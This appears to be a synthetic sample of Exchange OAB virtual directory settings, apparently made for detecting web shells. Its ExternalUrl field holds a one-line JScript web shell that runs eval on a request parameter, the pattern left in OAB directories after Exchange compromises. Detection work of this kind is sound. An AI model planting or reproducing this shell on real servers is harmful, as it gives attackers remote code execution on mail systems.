Name                            : OAB (Default Web Site)
Server                          : EXCH01
PollInterval                    : 480
OfflineAddressBooks             : {}
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
InternalUrl                     : https://exch01.contoso.local/OAB
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){/* exir synthetic sample */eval(Request["exir_oab_k"],"unsafe");}</script>
AdminDisplayVersion             : Version 15.1 (Build 2176.2)
Identity                        : EXCH01\OAB (Default Web Site)
